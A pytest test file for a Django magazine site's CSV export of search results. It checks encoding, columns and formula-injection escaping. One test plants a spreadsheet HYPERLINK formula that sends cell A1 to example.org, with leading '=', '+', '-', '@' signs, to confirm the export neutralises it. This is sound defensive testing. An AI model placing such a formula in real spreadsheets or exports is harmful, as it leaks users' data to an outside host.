"""Search results as a table for spreadsheets, read by Python's csv module."""

import csv
from io import StringIO
from typing import Any
from urllib.parse import quote

import pytest
from django.test import Client

from articles.models import Article
from magazine.models import Person
from tests.sample import whole_issue

pytestmark = pytest.mark.django_db


def rows(address: str) -> list[dict[str, str]]:
    answer: Any = Client().get(address)
    assert (answer.status_code, answer["Content-Type"]) == (200, "text/csv; charset=utf-8")
    text = answer.content.decode("utf-8")
    assert text[0] == "\ufeff", "Excel reads other files in the encoding of the computer"
    return list(csv.DictReader(StringIO(text[1:], newline="")))


def test_results_are_a_table() -> None:
    whole_issue()
    found = Client().get("/en/search.json?q=tide OR 北岛").json()
    table = rows(f"/en/search.csv?q={quote('tide OR 北岛')}")
    assert len(table) == found["total"]
    assert len(table) > 1
    assert {row["permalink"] for row in table} >= {result["permalink"] for result in found["results"]}
    row = next(each for each in table if each["permalink"].endswith("/p4"))
    assert (row["title"], row["other_title"]) == ("The Keeper", "守灯人之夜")
    assert row["authors"] == "Lin Hai"
    assert (row["issn"], row["year"], row["whole_number"], row["first_page"]) == (
        "2345-6787",
        "2021",
        "12",
        "4",
    )


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula(sign: str) -> None:
    whole_issue()
    article = Article.objects.get(locator="p4")
    article.title_en = f'{sign}HYPERLINK("http://example.org?"&A1,"tide")'
    article.save()
    Person.objects.filter(slug="lin-hai").update(name_en=f"{sign}Lin")
    table = rows("/en/search.csv?q=tide")
    row = next(each for each in table if each["permalink"].endswith("/p4"))
    assert row["title"].startswith(f"'{sign}HYPERLINK(")
    assert not [cell for each in table for cell in each.values() if cell[:1] in "=+-@＝＋－＠" and cell]


def test_page_of_results_links_the_table() -> None:
    whole_issue()
    page = Client().get("/en/search/?q=tide&year=2021").content.decode()
    assert '<a href="/en/search.csv?q=tide&amp;year=2021" type="text/csv" rel="nofollow">CSV</a>' in page
    assert len(rows("/en/sections/night.csv")) > 1
    assert Client().get("/issn/2345-6787/12/p4.csv").status_code == 404
